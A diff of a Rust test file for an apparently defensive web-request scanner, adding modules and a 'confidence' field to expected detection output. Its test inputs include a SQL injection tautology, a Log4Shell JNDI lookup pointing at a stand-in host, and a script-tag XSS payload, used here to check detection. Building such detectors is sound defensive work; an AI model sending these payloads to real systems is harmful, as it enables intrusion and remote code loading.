@@ -2,8 +2,11 @@
 
 #![allow(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing, clippy::string_slice)]
 
+mod catalogue;
 mod check;
+mod doctor;
 mod hash;
+mod init;
 mod notify_test;
 mod replay;
 mod simulate;
@@ -159,7 +162,7 @@ fn recorded_requests_are_scanned_and_no_line_is_lost() {
     assert_eq!(
         out,
         "{\"id\":\"web-1\",\"points\":8,\"detections\":[{\"rule\":\"sqli.union-select\",\"category\":\"sqli\",\
-         \"severity\":\"critical\",\"target\":\"query:q\",\"reason\":\"UNION SELECT with a select list\"}]}\n\
+         \"severity\":\"critical\",\"confidence\":\"high\",\"target\":\"query:q\",\"reason\":\"UNION SELECT with a select list\"}]}\n\
          {\"id\":\"har_benign-2\",\"points\":0,\"detections\":[]}\n"
     );
     assert_eq!(code, 1);
@@ -236,7 +239,10 @@ fn a_request_is_explained_step_by_step() {
             &["-d", "a=1' or 1=1--", "https://shop.example/"],
             "sql        a condition that is always true or false, joined by OR or AND → sqli.tautology\n",
         ),
-        (&["-H", "X-Log: ${jndi:ldap://x.example/a}", "/"], "\n    8  log4shell.lookup  critical  header:x-log  "),
+        (
+            &["-H", "X-Log: ${jndi:ldap://x.example/a}", "/"],
+            "\n    8  log4shell.lookup  critical, high confidence  header:x-log  ",
+        ),
         (
             &["-X", "PUT", "-H", "content-type: application/json", "-d", "@-", "/"],
             "json:a  <script>alert(1)</script>\n",
